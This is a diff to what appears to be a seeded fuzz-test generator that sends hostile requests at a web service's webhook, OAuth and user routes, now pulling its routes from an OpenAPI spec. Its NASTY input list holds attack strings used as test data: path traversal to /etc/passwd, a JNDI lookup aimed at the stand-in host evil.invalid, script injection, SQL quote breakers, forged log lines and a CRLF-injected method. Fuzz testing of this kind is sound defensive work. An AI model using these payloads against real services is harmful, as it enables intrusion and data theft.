@@ -5,23 +5,20 @@ Generated from a seed, so that what was found is found again; a hundred thousand
 
 import base64
 import json
+import re
 from dataclasses import dataclass
 from random import Random
 from typing import Any
 
 from local.sign import signed
-from tests.world import GMAIL, SECRET
+from tests.openapi import routes
+from tests.world import GMAIL, SECRET, SERVER
 
 CANARY = "<hostile>"
 """Stands in most of what is sent: never in a log, and never in an answer."""
 
 VICTIM = "ca_victim"
-ROUTES = [
-    ("POST", "/webhooks/composio"),
-    ("GET", "/oauth/callback"),
-    ("GET", "/users/{user_id}"),
-    ("POST", "/users/{user_id}/refresh"),
-]
+ROUTES = sorted(routes())
 METHODS = ["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "TRACE", "get", "", "G\r\nX"]
 HEADERS = ["webhook-id", "webhook-timestamp", "webhook-signature"]
 OTHERS = ["Host", "X-Forwarded-For", "X-HTTP-Method-Override", "If-None-Match", "Authorization"]
@@ -32,7 +29,7 @@ NASTY = [
     "../../../../etc/passwd", "..", ".", "/", "%2e%2e%2f", "{{7*7}}", "${jndi:ldap://evil.invalid}",
     "<script>alert(1)</script>", "'\"`--", '\n{"level":"ERROR","message":"forged"}', "CATALOG",
     "\u2028", "\u202e", "\ud800", "\udfff\ud800", "😀", "é", "ca_1", "ca_2,ca_3", "user_1",
-    "USER#user_1", "ACCOUNTS", "\\",
+    "USER#user_1", "ACCOUNTS", "\\", SERVER,
 ]  # fmt: skip
 
 
@@ -64,7 +61,7 @@ class Generator:
             "path": self._text(),
             "multiValueHeaders": self._values([*HEADERS, *OTHERS]),
             "multiValueQueryStringParameters": self._query() if method == "GET" else None,
-            "pathParameters": self._path() if "{" in resource else None,
+            "pathParameters": self._path(resource),
             "isBase64Encoded": dice.random() < 0.3,
             "body": None,
             "requestContext": {"identity": {"sourceIp": self._text()}},
@@ -123,8 +120,9 @@ class Generator:
     def _other(self) -> str:
         return self._random.choice(["mallory", "Victim", "victim ", "victim,mallory", self._text()])
 
-    def _path(self) -> dict[str, str] | None:
-        return {"user_id": self._text()} if self._random.random() < 0.95 else None
+    def _path(self, resource: str) -> dict[str, str] | None:
+        named = re.findall(r"{(\w+)}", resource)
+        return {one: self._text() for one in named} if self._random.random() < 0.95 else None
 
     def _body(self) -> str | None:
         dice = self._random
@@ -134,7 +132,7 @@ class Generator:
         if kind == 1:
             return '{"type":"composio.connected_account.x","data":' + '{"a":' * 5_000
         if kind == 2:
-            return "é" * 300_000 if dice.random() < 0.05 else None
+            return "é" * 300_000 if dice.random() < 0.8 else None
         if kind < 8:
             return self._text()
         text = json.dumps(self._envelope(), ensure_ascii=dice.random() < 0.5)
